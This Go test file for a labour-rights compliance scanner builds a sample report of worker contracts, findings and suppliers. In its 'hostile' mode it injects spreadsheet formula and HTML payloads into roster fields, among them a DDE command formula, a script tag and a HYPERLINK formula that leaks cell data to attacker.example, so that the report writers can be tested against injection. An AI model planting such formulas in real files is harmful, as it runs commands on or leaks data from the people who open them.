package report

import (
	"bytes"
	"flag"
	"os"
	"path/filepath"
	"testing"
	"time"

	"github.com/stretchr/testify/assert"

	"github.com/laborcheck/laborcheck/internal/contract"
)

// Use go test ./internal/report -update to create or update the golden files
// in testdata/, then review their diff like code.
var update = flag.Bool("update", false, "update golden files")

// golden compares got with testdata/<name>, or rewrites the file with -update.
func golden(tb testing.TB, name string, got []byte) {
	tb.Helper()
	path := filepath.Join("testdata", name)
	if *update {
		if err := os.MkdirAll("testdata", 0o755); err != nil {
			tb.Fatal(err)
		}
		if err := os.WriteFile(path, got, 0o644); err != nil {
			tb.Fatal(err)
		}
		return
	}
	want, err := os.ReadFile(path)
	if err != nil {
		tb.Fatalf("read golden file (run go test -update to create it): %v", err)
	}
	if !bytes.Equal(got, want) {
		assert.Equal(tb, string(want), string(got), "output differs from %s (run go test -update and review the diff)", path)
	}
}

func str(s string) *string { return &s }

// ordered returns a copy of r with its contracts and findings in report
// order, the order every writer lists them in.
func ordered(r *Report) *Report {
	n := *r
	n.Contracts, n.Findings = nil, nil
	for _, i := range contractOrder(r) {
		n.Contracts = append(n.Contracts, r.Contracts[i])
	}
	for _, i := range findingOrder(r) {
		n.Findings = append(n.Findings, r.Findings[i])
	}
	if r.Contracts != nil && n.Contracts == nil {
		n.Contracts = []Contract{}
	}
	if r.Findings != nil && n.Findings == nil {
		n.Findings = []Finding{}
	}
	return &n
}

// Hostile strings a roster can carry: formulas for spreadsheet programs,
// markup for browsers.
const (
	hostileFormula = `=cmd|' /C calc'!A0`
	hostileScript  = `<script>alert(1)</script>`
	hostileLink    = `=HYPERLINK("http://attacker.example/?leak="&A1,"Click for details")`
)

// sampleReport builds a representative report: three inputs (one
// unreadable, one workbook with a skipped and a failed sheet), flagged,
// clear and insufficient contracts, findings of every severity but info with
// evidence (derived and absent values included), a waived finding, a
// supplier-level (cross-row) finding, data issues, a rule error, suppliers
// with fee shares and an entity-list match, rules (one changed by a later
// file, one disabled) and the run. With hostile set, roster text carries
// formula and markup injections in the places a real roster could.
func sampleReport(tb testing.TB, hostile bool) *Report {
	tb.Helper()
	workerC3 := "Ana Reyes"
	supplierB := "Bright Fields Agro"
	contractC4 := "C-0004"
	deptRaw := "USD 450"
	dataIssueValue := "twelve hundred"
	workerIDC2 := "E-102"
	notesHeader := "Remarks"
	entityMatch := "Bright Fields Agricultural Group (entity list, 2024-01)"
	feeShare := 0.5
	if hostile {
		workerC3 = hostileFormula
		supplierB = hostileScript + " Agro"
		contractC4 = "+1"
		deptRaw = "@SUM(A1:A9)"
		dataIssueValue = hostileLink
		workerIDC2 = "\t=1"
		notesHeader = "-2+3"
		entityMatch = "=1+2 (entity list)"
	}
	const (
		acme   = "rosters/acme-garments.xlsx"
		bright = "rosters/bright-fields.csv"
		locked = "rosters/locked-2024.xlsx"
	)
	sheetRead := Sheet{
		Name: "Contracts", HeaderRow: 2, Rows: 5,
		Mapped: []Column{
			{Column: "A", Header: "Contract No.", Field: "contract_id"},
			{Column: "B", Header: "Emp No", Field: "worker_id"},
			{Column: "C", Header: "Name", Field: "worker_name"},
			{Column: "D", Header: "Supplier", Field: "supplier_name"},
			{Column: "E", Header: "Recruitment Fee", Field: "recruitment_fee_paid_by_worker"},
			{Column: "F", Header: "Passport Kept By", Field: "passport_held_by"},
			{Column: "G", Header: "Basic Salary", Field: "base_wage_monthly"},
			{Column: "I", Header: "Deposit", Field: "deposit_amount"},
		},
		Unmapped:     []Column{{Column: "H", Header: notesHeader}},
		Notes:        []string{"dates in column J read day-first (values over 12 in the first place)"},
		RulesChecked: 5, RulesTotal: 8,
		NotChecked: []RuleNeeds{
			{Rule: "hours-60", Needs: []string{"Total Hours per Week", "Normal Hours", "OT Hours"}},
			{Rule: "contract-language", Needs: []string{"Contract Language", "Mother Tongue"}},
			{Rule: "pay-interval", Needs: []string{"Pay Frequency"}},
		},
		PartlyChecked: []RuleNeeds{{Rule: "fee-vs-wage", Needs: []string{"Visa Fee", "Air Ticket"}}},
	}
	r := &Report{
		Summary: Summary{
			Contracts: 8, ContractsFlagged: 4, ContractsClear: 2, ContractsInsufficient: 2,
			Findings:    8,
			BySeverity:  map[string]int{"critical": 4, "high": 2, "medium": 1, "low": 1},
			ByIndicator: map[string]int{"debt_bondage": 4, "retention_of_identity_documents": 1, "excessive_overtime": 2, "deception": 1},
			Inputs:      4, InputsUnreadable: 1, InputsIncomplete: 1, SheetsUnreadable: 1, SheetsSkipped: 2,
			DataIssues: 2, RuleErrors: 1, FailOn: "high", FindingsAtOrAbove: 5, Waived: 1,
		},
		Inputs: []Input{
			{
				Path: acme, SHA256: "3f1a9c5e0b7d2468ace13579bdf02468ace13579bdf02468ace13579bdf0246a", Format: "xlsx",
				Sheets: []Sheet{
					sheetRead,
					{Name: "Read me", Skipped: "no header row with contract fields in the first 20 rows"},
					{Name: "Payroll 2023", Error: str("sheet declares 1048576 rows; refusing to read past the 200000-row limit"), Hidden: true},
				},
			},
			{
				Path: bright, SHA256: "9b8c7d6e5f4a39281706f5e4d3c2b1a09b8c7d6e5f4a39281706f5e4d3c2b1a0", Format: "csv",
				Notes: []string{"text encoding: windows-1252 (not valid UTF-8)"},
				Sheets: []Sheet{{
					Name: "", HeaderRow: 1, Rows: 3,
					Mapped: []Column{
						{Column: "1", Header: "Worker ID", Field: "worker_id"},
						{Column: "2", Header: "Employer", Field: "employer_name"},
						{Column: "3", Header: "Total Hours per Week", Field: "weekly_hours_total"},
						{Column: "4", Header: "Contract Language", Field: "contract_language"},
					},
					RulesChecked: 2, RulesTotal: 8,
				}},
			},
			{
				Path: "rosters/stock-list.csv", SHA256: "7e57ab1e7e57ab1e7e57ab1e7e57ab1e7e57ab1e7e57ab1e7e57ab1e7e57ab1e", Format: "csv",
				Sheets: []Sheet{{
					Skipped:  "no header row: at most 0 of the 3 rows' cells name a known field",
					Unmapped: []Column{{Column: "1", Header: "SKU"}, {Column: "2", Header: "Description"}, {Column: "3", Header: notesHeader}},
				}},
				Incomplete:          []string{"no roster: no header row: at most 0 of the 3 rows' cells name a known field"},
				UnrecognisedHeaders: []string{"SKU", "Description", notesHeader},
			},
			{
				Path: locked, SHA256: "00ff00ff00ff00ff00ff00ff00ff00ff00ff00ff00ff00ff00ff00ff00ff00ff", Format: "xlsx",
				Error: str("the workbook is encrypted"),
				Hint:  "save a copy without a password and scan that copy",
			},
		},
		Contracts: []Contract{
			{File: acme, Sheet: "Contracts", Row: 3, ContractID: "C-0001", WorkerID: "E-101", WorkerName: "Rina Sari", Supplier: "Acme Garments Ltd", Status: StatusFlagged, Risk: str("critical"), Findings: 3, RulesChecked: 5},
			{File: acme, Sheet: "Contracts", Row: 4, ContractID: "C-0002", WorkerID: workerIDC2, WorkerName: "Bikash Tamang", Supplier: "Acme Garments Ltd", Status: StatusFlagged, Risk: str("high"), Findings: 1},
			{File: acme, Sheet: "Contracts", Row: 5, ContractID: "C-0003", WorkerID: "E-103", WorkerName: workerC3, Supplier: "Acme Garments Ltd", Status: StatusClear},
			{File: acme, Sheet: "Contracts", Row: 6, ContractID: contractC4, WorkerID: "E-104", WorkerName: "Mohammad Rahim", Supplier: "Acme Garments Ltd", Status: StatusInsufficient, Findings: 0, RulesChecked: 3, Missing: []string{"Recruitment Fee", "Passport Kept By"}},
			{File: acme, Sheet: "Contracts", Row: 7, ContractID: "C-0005", WorkerID: "E-105", WorkerName: "Siti Aminah", Supplier: "Acme Garments Ltd", Status: StatusClear},
			{File: bright, Row: 2, ContractID: "BF-17", WorkerID: "W-17", WorkerName: workerC3, Supplier: supplierB, Status: StatusFlagged, Risk: str("critical"), Findings: 2},
			{File: bright, Row: 3, ContractID: "BF-18", WorkerID: "W-18", Supplier: supplierB, Status: StatusFlagged, Risk: str("low"), Findings: 1, RuleErrors: 1},
			{File: bright, Row: 4, ContractID: "BF-19", WorkerID: "W-19", Supplier: supplierB, Status: StatusInsufficient, RulesChecked: 1, Missing: []string{"Total Hours per Week"},
				MissingLookups: []string{`table min_wage has no row for "MY", "2024"`}},
		},
		Findings: []Finding{
			{
				RuleID: "passport-held", Title: "Identity documents held by employer or agent", Indicator: "retention_of_identity_documents", Severity: "critical",
				Message: "The passport is kept by the employer (HR), not the worker.",
				File:    acme, Sheet: "Contracts", Row: 3, ContractID: "C-0001", WorkerID: "E-101", WorkerName: "Rina Sari", Supplier: "Acme Garments Ltd",
				Evidence:   map[string]Evidence{"passport_held_by": {Value: "employer", Raw: "HR", Column: "F", Header: "Passport Kept By", Cell: "F3"}},
				References: []string{"ILO indicator 7", "RBA Code A1", "FAR 52.222-50"},
				Remedy:     "Return passports to the workers now",
			},
			{
				RuleID: "fee-paid", Title: "Worker paid a recruitment fee", Indicator: "debt_bondage", Severity: "high",
				Message: "The worker paid a recruitment fee of USD 1,200.",
				File:    acme, Sheet: "Contracts", Row: 3, ContractID: "C-0001", WorkerID: "E-101", WorkerName: "Rina Sari", Supplier: "Acme Garments Ltd",
				Evidence:   map[string]Evidence{"recruitment_fee_paid_by_worker": {Value: 1200.0, Raw: "$1,200", Column: "E", Header: "Recruitment Fee", Cell: "E3", Currency: "USD"}},
				References: []string{"ILO Fair Recruitment General Principle 7", "ILO C181 Art. 7"},
				Remedy:     "Reimburse the recruitment fee; =the employer pays",
			},
			{
				RuleID: "fee-vs-wage", Title: "Worker-paid costs of a month's wage or more", Indicator: "debt_bondage", Severity: "critical",
				Message: "Worker-paid recruitment costs (USD 1,200) are 2.7 months of the base wage (USD 450).",
				File:    acme, Sheet: "Contracts", Row: 3, ContractID: "C-0001", WorkerID: "E-101", WorkerName: "Rina Sari", Supplier: "Acme Garments Ltd",
				Evidence: map[string]Evidence{
					"recruitment_fee_paid_by_worker": {Value: 1200.0, Raw: "$1,200", Currency: "USD"},
					"base_wage_monthly":              {Value: 450.0, Raw: deptRaw, Currency: "USD"},
				},
				References: []string{},
			},
			{
				RuleID: "deposit", Title: "Worker paid a deposit", Indicator: "debt_bondage", Severity: "high",
				Message: "The worker paid a security deposit of -2+3 months' wages.",
				File:    acme, Sheet: "Contracts", Row: 4, ContractID: "C-0002", WorkerID: workerIDC2, WorkerName: "Bikash Tamang", Supplier: "Acme Garments Ltd",
				Evidence:   map[string]Evidence{"deposit_amount": {Value: 300.0, Raw: "300"}},
				References: []string{"ETI Base Code 1.2"},
				Waived:     true, WaiverReason: "Deposit refunded in full on 2024-03-01; receipt on file",
				WaiverApprovedBy: "J. Okafor (compliance)", WaiverExpires: "2024-12-31", WaiverSource: "waivers/acme.yaml:4",
			},
			{
				RuleID: "hours-60", Title: "Weekly hours over 60", Indicator: "excessive_overtime", Severity: "critical",
				Message: "74 hours a week, over the 72-hour limit.",
				File:    bright, Row: 2, ContractID: "BF-17", WorkerID: "W-17", WorkerName: workerC3, Supplier: supplierB,
				Evidence: map[string]Evidence{
					"regular_hours_per_week":  {Value: 48.0, Raw: "48", Column: "3", Header: "Regular Hours", Cell: "C2"},
					"overtime_hours_per_week": {Value: 26.0, Raw: "26"},
					"weekly_hours_total":      {Value: 74.0, Derived: true},
				},
				References: []string{"RBA Code A3"},
			},
			{
				RuleID: "contract-language", Title: "Contract not in the worker's language", Indicator: "deception", Severity: "medium",
				Message: "The contract is in English; the worker's first language is Tagalog.",
				File:    bright, Row: 2, ContractID: "BF-17", WorkerID: "W-17", WorkerName: workerC3, Supplier: supplierB,
				Evidence: map[string]Evidence{
					"contract_language":      {Value: "English", Raw: "English"},
					"worker_native_language": {Value: "Tagalog", Raw: "Tagalog"},
				},
				References: []string{"RBA Code A1", "Dhaka Principle 2"},
			},
			{
				RuleID: "regular-48", Title: "Regular hours over 48", Indicator: "excessive_overtime", Severity: "low",
				Message: "Regular hours are not recorded; overtime is 14 hours a week.",
				File:    bright, Row: 3, ContractID: "BF-18", WorkerID: "W-18", Supplier: supplierB,
				Evidence: map[string]Evidence{
					"regular_hours_per_week":  {Value: nil, Raw: "N/A"},
					"overtime_hours_per_week": {Value: 14.0, Raw: "14"},
					"overtime_voluntary":      {Value: true, Raw: "Yes"},
				},
				References: nil,
			},
			{
				RuleID: "fee-share", Title: "Workers of one supplier paid recruitment fees", Indicator: "debt_bondage", Severity: "critical",
				Message: "1 of 2 Acme Garments Ltd workers with known costs (50%) paid recruitment fees.",
				File:    acme, Sheet: "Contracts", Row: 3, ContractID: "C-0001", Supplier: "Acme Garments Ltd",
				Evidence: map[string]Evidence{
					"fee_paid_share": {Value: 0.5},
					"fees_paid":      {Value: 1.0},
				},
				References: []string{"ILO Fair Recruitment General Principle 7"},
				Remedy:     "Reimburse every worker who paid fees",
				Scope:      ScopeSupplier,
				Contracts: []ContractRef{
					{File: acme, Sheet: "Contracts", Row: 3, ContractID: "C-0001"},
				},
				ContractsTotal: 1,
			},
		},
		DataIssues: []contract.DataIssue{
			{File: acme, Sheet: "Contracts", Row: 6, Column: "E", Field: "recruitment_fee_paid_by_worker", Value: dataIssueValue, Problem: "not an amount of money"},
			{File: bright, Row: 4, Column: "Total Hours per Week", Field: "weekly_hours_total", Value: "sixty", Problem: "not a number"},
		},
		RuleErrors: []RuleError{
			{RuleID: "pay-interval", File: bright, Row: 3, ContractID: "BF-18", Error: "no such key: wage_payment_interval_days"},
		},
		Suppliers: []Supplier{
			{Name: "Acme Garments Ltd", RiskScore: 14, Contracts: 5, ContractsFlagged: 2, ContractsClear: 2, ContractsInsufficient: 1, Findings: 5, Risk: str("critical"),
				ByIndicator: map[string]int{"debt_bondage": 4, "retention_of_identity_documents": 1},
				FeesPaid:    1, FeesNotPaid: 1, FeesUnknown: 3, FeePaidShare: &feeShare, CrossRowFindings: 1,
				Coverage: 0.625, IndicatorsChecked: []string{"retention_of_identity_documents"}, IndicatorsPartly: []string{"debt_bondage"},
				IndicatorsNotChecked: []string{"deception", "withholding_of_wages", "excessive_overtime"}},
			{Name: supplierB, RiskScore: 4.33, Contracts: 3, ContractsFlagged: 2, ContractsInsufficient: 1, Findings: 3, Risk: str("critical"),
				ByIndicator: map[string]int{"excessive_overtime": 2, "deception": 1},
				FeesUnknown: 3, EntityListMatch: entityMatch,
				Coverage: 0.25, IndicatorsPartly: []string{"excessive_overtime", "deception"},
				IndicatorsNotChecked: []string{"retention_of_identity_documents", "debt_bondage", "withholding_of_wages"}},
		},
		Rules: []Rule{
			{ID: "passport-held", Title: "Identity documents held by employer or agent", Indicator: "retention_of_identity_documents", Severity: "critical", References: []string{"ILO indicator 7", "RBA Code A1", "FAR 52.222-50"}, Source: "rules/documents.yaml:3",
				Remedy: "Return passports to the workers now"},
			{ID: "fee-paid", Title: "Worker paid a recruitment fee", Indicator: "debt_bondage", Severity: "high", References: []string{"ILO Fair Recruitment General Principle 7", "ILO C181 Art. 7"}, Source: "rules/recruitment.yaml:3",
				Remedy: "Reimburse the recruitment fee; =the employer pays"},
			{ID: "fee-vs-wage", Title: "Worker-paid costs of a month's wage or more", Indicator: "debt_bondage", Severity: "critical", Source: "rules/recruitment.yaml:21"},
			{ID: "deposit", Title: "Worker paid a deposit", Indicator: "debt_bondage", Severity: "high", References: []string{"ETI Base Code 1.2"}, Source: "rules/recruitment.yaml:40"},
			{ID: "hours-60", Title: "Weekly hours over 60", Indicator: "excessive_overtime", Severity: "critical", References: []string{"RBA Code A3"}, Source: "rules/hours.yaml:3",
				Layers: []string{"rules/local-overrides.yaml:7: severity high → critical"}},
			{ID: "regular-48", Title: "Regular hours over 48", Indicator: "excessive_overtime", Severity: "medium", References: []string{"ILO C1", "ILO C30"}, Source: "rules/hours.yaml:19"},
			{ID: "contract-language", Title: "Contract not in the worker's language", Indicator: "deception", Severity: "high", References: []string{"RBA Code A1", "Dhaka Principle 2"}, Source: "rules/contract.yaml:12"},
			{ID: "pay-interval", Title: "Wages paid less often than monthly", Indicator: "withholding_of_wages", Severity: "high", References: []string{"ILO R85 §4"}, Source: "rules/wages.yaml:8"},
		},
		Run: Run{
			Version:     "0.4.0",
			StartedAt:   time.Date(2024, 5, 2, 8, 15, 0, 0, time.FixedZone("CEST", 2*3600)),
			RulesDigest: "5d41402abc4b2a76b9719d911017c592ae1c8b1d0e6f7a8b9c0d1e2f3a4b5c6d",
			RuleFiles: []File{
				{Path: "(built-in)/documents.yaml", SHA256: "a1b2c3d4e5f60718293a4b5c6d7e8f90a1b2c3d4e5f60718293a4b5c6d7e8f90"},
				{Path: "rules/local-overrides.yaml", SHA256: "0f1e2d3c4b5a69788796a5b4c3d2e1f00f1e2d3c4b5a69788796a5b4c3d2e1f0"},
			},
			Tables: []File{{Path: "tables/minimum-wages.csv", SHA256: "cafebabecafebabecafebabecafebabecafebabecafebabecafebabecafebabe"}},
			DisabledRules: []DisabledRule{
				{ID: "notice-period", Source: "(built-in)/movement.yaml:14", DisabledBy: "rules/local-overrides.yaml:12"},
			},
			WaiverFiles: []File{{Path: "waivers/acme.yaml", SHA256: "feedfacefeedfacefeedfacefeedfacefeedfacefeedfacefeedfacefeedface"}},
			Options:     Options{FailOn: "high", AsOf: "2024-05-01", MapFile: "maps/acme.yaml", MinCoverage: 0.5},
		},
	}
	return r
}
